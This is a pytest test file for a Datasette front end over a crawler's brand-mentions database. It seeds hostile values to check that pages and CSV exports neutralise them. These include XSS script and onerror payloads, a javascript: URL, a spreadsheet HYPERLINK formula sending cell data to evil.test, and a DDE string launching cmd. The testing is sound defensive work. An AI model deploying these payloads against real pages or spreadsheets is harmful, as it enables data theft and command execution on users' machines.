"""The real datasette/ folder over a database with hostile texts: complete, working, and safe to look at."""

import asyncio
import csv
import io
import re
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest
from datasette.app import Datasette
from datasette.database import Database
from datasette.plugins import pm

from crawler.publishing import PublishingError, build, listening, stored_secret
from pipelines.storing.database import StorageError, open_database

CONFIG = Path(__file__).parent.parent / "datasette"
VIEWS = "findings unlinked prospects referring_sites link_intersect lost_links anchor_texts earning_formats coverage"
HOSTILE = "<script>document.title='owned'</script>"
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1)'
SEEN = "2025-11-20T08:00:00Z"
Get = Callable[..., httpx.Response]


def insert(db: sqlite3.Connection, table: str, **values: object) -> int:
    """Insert one row, with an empty text, 0 or a date for every column that must not be null, and return its id."""
    row: dict[str, object] = {}
    for _, name, kind, notnull, default, pk in db.execute(f"pragma table_info({table})"):
        if notnull and not pk and default is None:
            row[name] = SEEN if name.endswith(("_seen", "_at", "found", "started")) else 0 if kind != "TEXT" else ""
    row |= values
    marks = ", ".join("?" * len(row))
    return db.execute(f"insert into {table} ({', '.join(row)}) values ({marks})", list(row.values())).lastrowid or 0


def fill(path: Path) -> None:
    """Make a database of a small world at `path`: two competitors, ten sites, links, and hostile texts."""
    db = open_database(path)
    for name, role in (("Acme", "own"), ("Globex", "competitor"), ("Initech", "competitor")):
        host = f"{name.lower()}.test"
        insert(db, "brands", name=name, role=role, domains=f'["{host}"]', sites=f'["{host}"]', profiles="[]",
               aliases="[]", cased_aliases="[]", context="[]", exclude="[]", handles="[]")  # fmt: skip
    crawl = insert(db, "crawls", spider="resources", seeds="seeds.txt", brands_file="brands.toml")
    titles = (
        "Ten workshops worth a visit",
        "Tools we use every day",
        "The history of the anvil",
        "What to buy in spring",
    )
    for number in range(10):
        site = f"site{number}.example"
        insert(db, "sites", site=site)
        page = insert(db, "pages", url=f"https://www.{site}/guides/the-long-way-to-a-good-workshop/{number}/resources.html",
                      site=site, status=200, page_read="read", title=titles[number % 4], page_type="list", links_out=3,
                      published="2026-05-01", spider="resources", crawl_id=crawl)  # fmt: skip
        link = None
        if number % 3 == 0:
            link = insert(db, "links", page_id=page, brand="Acme", url="https://acme.test/", target="https://acme.test/",
                          owned="domain", anchor="Acme", kind="text", region="main", followed=1, ordinal=1)  # fmt: skip
        for brand in ("Globex", "Initech"):
            insert(db, "links", page_id=page, brand=brand, url=f"https://{brand.lower()}.test/", owned="domain",
                   anchor=brand, kind="text", region="main", followed=1, ordinal=1,
                   missing_since="2026-11-01T00:00:00Z" if number == 9 else None,
                   missing_checked="2026-11-02T00:00:00Z" if number == 9 else None)  # fmt: skip
        insert(db, "mentions", page_id=page, brand="Acme", surface="Acme", alias="Acme", match="name", score=90,
               region="main", before="For heavy work many smiths in our town still order their hammers from ",
               after=" and wait the four weeks, since nothing else lasts", link_state="linked" if link else "unlinked",
               link_id=link, ordinal=1, evidence='{"name that only means the brand": 90.0}')  # fmt: skip
        insert(db, "contacts", site=site, email=f"hello@{site}", source_url=f"https://{site}/about")
    insert(db, "sites", site="evil.example")
    page = insert(db, "pages", url="javascript:alert(1)", site="evil.example", status=200, page_read="read",
                  title=HOSTILE, page_type="article", links_out=1, spider="news", crawl_id=crawl)  # fmt: skip
    insert(db, "mentions", page_id=page, brand="Acme", surface=f"Acme{HOSTILE}", alias="Acme", match="name", score=70,
           region="main", before=FORMULA + "\nsecond, \"line\"", after="<img src=x onerror=alert(1)>", ordinal=1,
           link_state="unlinked", evidence="[]")  # fmt: skip
    insert(db, "events", kind="link_missed", page_id=page, brand="Acme", at=SEEN)
    insert(db, "outreach", site="site1.example", brand="Acme", note="-2+3+cmd|' /C calc'!A0")
    insert(db, "suppressions", kind="site", value="site2.example", added_at=SEEN)
    insert(
        db,
        "frontier",
        fingerprint=b"\x01\x02",
        url="https://site1.example/",
        site="site1.example",
        spider="news",
        queued=SEEN,
    )
    db.commit()
    db.close()


@pytest.fixture
def datasette(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Datasette]:
    opened: list[sqlite3.Connection] = []  # Datasette closes only some of its connections itself
    connect = Database.connect

    def remember(self: Database, write: bool = False) -> sqlite3.Connection:
        opened.append(connect(self, write))
        return opened[-1]

    monkeypatch.setattr(Database, "connect", remember)
    fill(tmp_path / "other name.db")
    instance = build(tmp_path / "other name.db", CONFIG)
    yield instance
    instance.executor.shutdown()
    for connection in opened:
        connection.close()


@pytest.fixture
def get(datasette: Datasette) -> Get:
    return lambda path, **options: asyncio.run(datasette.client.get(path, **options))


@pytest.fixture
def db(datasette: Datasette, tmp_path: Path) -> Iterator[sqlite3.Connection]:
    connection = sqlite3.connect(tmp_path / "other name.db")
    yield connection
    connection.close()


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_every_column_is_described_and_nothing_else(datasette: Datasette, db: sqlite3.Connection) -> None:
    sql = "select name from sqlite_master where type in ('table', 'view') and name not like '%\\_fts%' escape '\\'"
    real = {name: {row[1] for row in db.execute(f"pragma table_info({name})")} for (name,) in db.execute(sql)}
    real.pop("sqlite_sequence", None)
    described = datasette.metadata(database="mentions")["tables"]
    assert {name: set(table["columns"]) for name, table in described.items()} == real
    assert all(table["description"] and all(table["columns"].values()) for table in described.values())
    for name, table in described.items():
        named = {*table.get("facets", []), table.get("sort_desc"), table.get("label_column"), table.get("fts_pk")} - {
            None
        }
        assert named <= real[name], name


def test_every_page_that_the_index_leads_to_opens(get: Get) -> None:
    assert [item["name"] for item in get("/-/databases.json").json()] == ["mentions"]
    front = get("/").text
    assert all(f'href="/mentions/{view}"' in front for view in VIEWS.split())
    seen: set[str] = set()
    waiting = ["/", "/mentions", "/mentions?_show_hidden=1"]
    while waiting:
        path = waiting.pop()
        answer = get(path)
        assert answer.status_code == 200, path
        if path.count("/") < 3 and "?" not in path:
            links = re.findall(r'href="(/mentions[^"#]*)"', answer.text)
            waiting += [link.replace("&amp;", "&") for link in {*links} - seen if not re.search(r"\.(db|blob)", link)]
            seen |= {*links}
    assert len(seen) > 100
    assert not re.search("_sqlite_migrations|_fts", get("/mentions").text)


@pytest.mark.parametrize("view", ["findings", "unlinked", "prospects", "mentions"])
def test_a_search_finds_words_around_the_mention(get: Get, view: str) -> None:
    assert '<input id="_search"' in get(f"/mentions/{view}").text
    whole, some, none = (get(f"/mentions/{view}.json?_search={word}").json() for word in ("", "hyperlink", "zeppelin"))
    assert some["filtered_table_rows_count"] == 1
    assert none["filtered_table_rows_count"] == 0
    assert whole["filtered_table_rows_count"] > 1
    for odd in ('"un"balanced+AND+*', "%22", "+", "-", 'a"', "%F0%9F%9A%80", "NEAR(", "surface:x"):
        assert get(f"/mentions/{view}?_search={odd}").status_code == 200, odd


def test_facets_count_values(get: Get) -> None:
    facets = get("/mentions/findings.json").json()["facet_results"]
    assert set(facets) == {"brand", "link_state", "match", "region", "page_type", "site"}
    assert {item["value"]: item["count"] for item in facets["link_state"]["results"]} == {"unlinked": 7, "linked": 4}


def test_cells_are_highlighted_and_never_run(get: Get) -> None:
    for path in ("findings", "unlinked", "prospects", "mentions", "pages", "new_mentions"):
        page = get(f"/mentions/{path}").text
        assert HOSTILE not in page
        assert "<img src=x" not in page
        assert 'href="javascript' not in page
    page = get("/mentions/findings").text
    assert " hammers from <mark>Acme</mark> and wait" in page
    assert "<mark>Acme&lt;script&gt;" in page
    assert 'rel="noopener noreferrer nofollow" target="_blank">site9.example/guides/' in page
    assert '<span class="badge badge-unlinked">unlinked</span>' in page
    assert " hammers from <mark>Acme</mark> and wait" in get("/mentions/prospects").text  # has no column `surface`
    columns = re.findall(r'data-column="(\w+)"\s+data-column-type', page)
    assert columns[:4] == ["site", "brand", "link_state", "context"]
    assert set(columns) == {*get("/mentions/findings.json").json()["columns"]}


def test_csv_is_safe_to_open_in_a_spreadsheet(get: Get) -> None:
    for options in ("", "?_stream=1&_dl=1", "?_size=1"):
        answer = get(f"/mentions/findings.csv{options}")
        assert answer.status_code == 200
        assert "content-length" not in answer.headers
        for row in rows(answer):
            assert not any(re.match(r"[=+@\t\r\n＝＋－＠]|-(?!\d)", cell) for cell in row.values())
    [evil] = rows(get("/mentions/findings.csv?site=evil.example"))
    assert evil["before"] == "'" + FORMULA + '\nsecond, "line"'
    assert rows(get("/mentions/outreach.csv"))[0]["note"].startswith("'-2+3+cmd")
    assert len(rows(get("/mentions/findings.csv?_stream=1&_size=2"))) == 11
    assert pm.get_plugin("repairs.py").repaired("/x.csv", b"_stream=on&_search=") == b"_stream=on&_size=max"
    assert get("/mentions/nothing.csv").status_code == 404


def test_csv_cut_anywhere_gives_the_same(datasette: Datasette) -> None:
    plugin = pm.get_plugin("safe_csv.py")
    cells = [
        "a",
        "-12.5",
        "-12.5+1",
        "=1",
        "＝1",
        "\t=1",
        'x, "é"\r\n=2',
        "+1e5",
        "",
        "@x",
        "-",
        "\r",
        "ok\u2028=3",
        "z" * 200_000,
    ]
    out = io.StringIO(newline="")
    csv.writer(out).writerows([cells, cells[::-1]])
    raw = out.getvalue().encode()
    for size in (1, 2, 3, 7, len(raw)):
        safe = plugin.SafeCsv()
        pieces = [safe.feed(raw[start : start + size]) for start in range(0, len(raw), size)] + [
            safe.feed(b"", last=True)
        ]
        got = list(csv.reader(io.StringIO(b"".join(pieces).decode(), newline="")))
        assert got[0] == got[1][::-1]
        for before, after in zip(cells, got[0], strict=True):
            safe_already = before in ("a", "-12.5", "+1e5", "", cells[6], cells[12], cells[13])
            assert after == before if safe_already else after == "'" + before


@pytest.mark.parametrize("path", ["/", "/mentions/findings", "/mentions/findings.csv", "/static/namedrop.css", "/no"])
def test_every_answer_has_security_headers(get: Get, path: str) -> None:
    answer = get(path)
    policy = answer.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    assert "script-src 'nonce-" in policy
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["referrer-policy"] == "no-referrer"
    if "html" in answer.headers["content-type"]:
        nonce = re.search(r"'nonce-([^']+)'", policy)
        scripts = re.findall(r"<script[^>]*>", answer.text)
        assert nonce
        assert scripts
        assert all(f'nonce="{nonce[1]}"' in script for script in scripts)
        assert get(path).headers["content-security-policy"] != policy


def test_canned_queries_run(get: Get, datasette: Datasette, db: sqlite3.Connection) -> None:
    for name in datasette.metadata(database="mentions")["queries"]:
        assert get(f"/mentions/{name}.json").status_code == 200
    brands = get("/mentions/brands_compared.json?_shape=array").json()
    assert [(row["brand"], row["mentions"], row["referring_sites"]) for row in brands] == [
        ("Acme", 11, 4), ("Globex", 0, 9), ("Initech", 0, 9)
    ]  # fmt: skip
    db.execute("update mentions set first_seen = date('now', '-3 days') where id = 1")
    db.commit()
    assert len(get("/mentions/new_mentions.json?_shape=array").json()) == 1
    assert get("/mentions/new_mentions.json?_shape=array&days=2").json() == []


def test_nobody_can_exhaust_the_memory_or_write(get: Get, datasette: Datasette) -> None:
    assert get("/mentions.json?sql=select+1").status_code == 403
    assert get("/mentions.db").status_code == 403
    with pytest.raises(sqlite3.DataError, match="too big"):
        asyncio.run(datasette.execute("mentions", "select length(hex(zeroblob(400000000)))", log_sql_errors=False))
    with pytest.raises(sqlite3.OperationalError, match="readonly"):
        asyncio.run(datasette.execute("mentions", "delete from mentions", log_sql_errors=False))


def test_the_secret_is_made_once_and_private(tmp_path: Path) -> None:
    first = stored_secret(tmp_path / ".secret")
    assert len(first) == 64
    assert stored_secret(tmp_path / ".secret") == first
    assert (tmp_path / ".secret").stat().st_mode & 0o777 == 0o600
    (tmp_path / ".secret").write_text("")
    assert len(stored_secret(tmp_path / ".secret")) == 64


def test_trouble_is_one_sentence(tmp_path: Path) -> None:
    with listening("127.0.0.1", 0) as taken, pytest.raises(PublishingError, match="choose another with --port"):
        listening("127.0.0.1", taken.getsockname()[1])
    with pytest.raises(PublishingError, match="99999 is no port"):
        listening("127.0.0.1", 99999)
    with pytest.raises(PublishingError, match="cannot be used"):
        build(tmp_path / "x.db", tmp_path)
    with pytest.raises(StorageError, match="There is no database"):
        open_database(tmp_path / "x.db", create=False)
